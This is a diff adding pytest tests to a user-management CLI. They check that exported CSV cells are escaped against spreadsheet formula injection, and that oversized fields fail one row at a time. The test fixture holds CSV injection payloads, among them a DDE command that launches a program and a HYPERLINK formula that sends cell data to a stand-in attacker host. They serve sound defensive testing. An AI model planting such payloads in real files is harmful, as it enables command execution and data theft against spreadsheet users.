@@ -14,6 +14,7 @@ import pytest
 from chamberlain.api.rest.routes_bulk import CSV_COLUMNS as SERVER_COLUMNS
 from chamberlain.cli import transfer
 from chamberlain.cli.user_csv import CSV_COLUMNS
+from chamberlain.client import ApiKeyAuth, Client
 from chamberlain.testing import ChamberlainServer
 from tests.cli.conftest import Cli, ok
 
@@ -182,3 +183,64 @@ def test_a_refusal_of_the_whole_import_stops_it_with_its_code(
     assert "import stopped at line 2" in result.stderr
     # The row that could not be sent is reported all the same.
     assert [(r["row"], r["code"]) for r in _results(result.stdout)] == [(5, "field_required")]
+
+
+FORMULAS = {
+    "first_name": "=cmd|' /C calc'!A0",
+    "last_name": '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "title": "@SUM(1+1)",
+    "office_number": "+1 555 0100",
+    "mobile_number": "-2+3",
+    "fax_number": "'=already quoted",
+}
+
+
+def test_formulas_are_escaped_in_every_csv_and_an_export_still_imports_back_unchanged(
+    cli: Cli, tmp_path: Path, chamberlain_server: ChamberlainServer
+) -> None:
+    """Issue 13: cells a spreadsheet would run are written with a leading quote, which
+    the import drops again, so legitimate values such as ``-2+3`` survive the round trip."""
+    alias = chamberlain_server.root_alias
+    # Planted as anyone with users:manage (or a SCIM provider) could.
+    with Client(chamberlain_server.base_url, auth=ApiKeyAuth(chamberlain_server.api_key,
+                chamberlain_server.password)) as api:  # fmt: skip
+        f = FORMULAS
+        api.users.create(
+            alias, user_name="+evil", email="evil@example.com", first_name=f["first_name"],
+            last_name=f["last_name"], title=f["title"], office_number=f["office_number"],
+            mobile_number=f["mobile_number"], fax_number=f["fax_number"],
+        )  # fmt: skip
+
+    exported = tmp_path / "out.csv"
+    ok(cli("users", "export", "--account", alias, "-o", str(exported)))
+    with exported.open(newline="", encoding="utf-8") as stream:
+        (row,) = csv.DictReader(stream)
+    assert row["user_name"] == "'+evil"
+    for column, value in FORMULAS.items():
+        assert row[column] == "'" + value, column
+    again = cli("users", "import", str(exported), "--account", alias, "--upsert", "--json")
+    assert [r["result"] for r in _results(ok(again))] == ["unchanged"]
+
+    listed = ok(cli("users", "list", "--account", alias, "--output", "csv"))
+    (shown,) = csv.DictReader(io.StringIO(listed))
+    assert (shown["user_name"], shown["first_name"]) == ("'+evil", "'" + FORMULAS["first_name"])
+    taken = cli("users", "import", str(exported), "--account", alias, "--output", "csv")
+    assert taken.exit_code == 11
+    (result,) = csv.DictReader(io.StringIO(taken.stdout))
+    assert (result["user_name"], result["code"]) == ("'+evil", "user_exists")
+
+
+def test_a_row_the_server_cannot_read_fails_alone_and_names_the_member(
+    cli: Cli, tmp_path: Path, chamberlain_server: ChamberlainServer
+) -> None:
+    """A value the bulk body's schema refuses fails its whole request; the import splits
+    the chunk down to that row, whose result says which member was at fault."""
+    rows = [_person(0), _person(1, title="x" * 1025), _person(2)]
+    source = _write(tmp_path / "in.csv", rows)
+    result = cli("users", "import", str(source), "--account", chamberlain_server.root_alias,
+                 "--json")  # fmt: skip
+    assert result.exit_code == 11
+    found = {r["row"]: r for r in _results(result.stdout)}
+    assert [found[n]["result"] for n in (2, 3, 4)] == ["created", "error", "created"]
+    assert found[3]["code"] == "invalid_request"
+    assert "users.0.title: String should have at most 1024 characters" in found[3]["detail"]
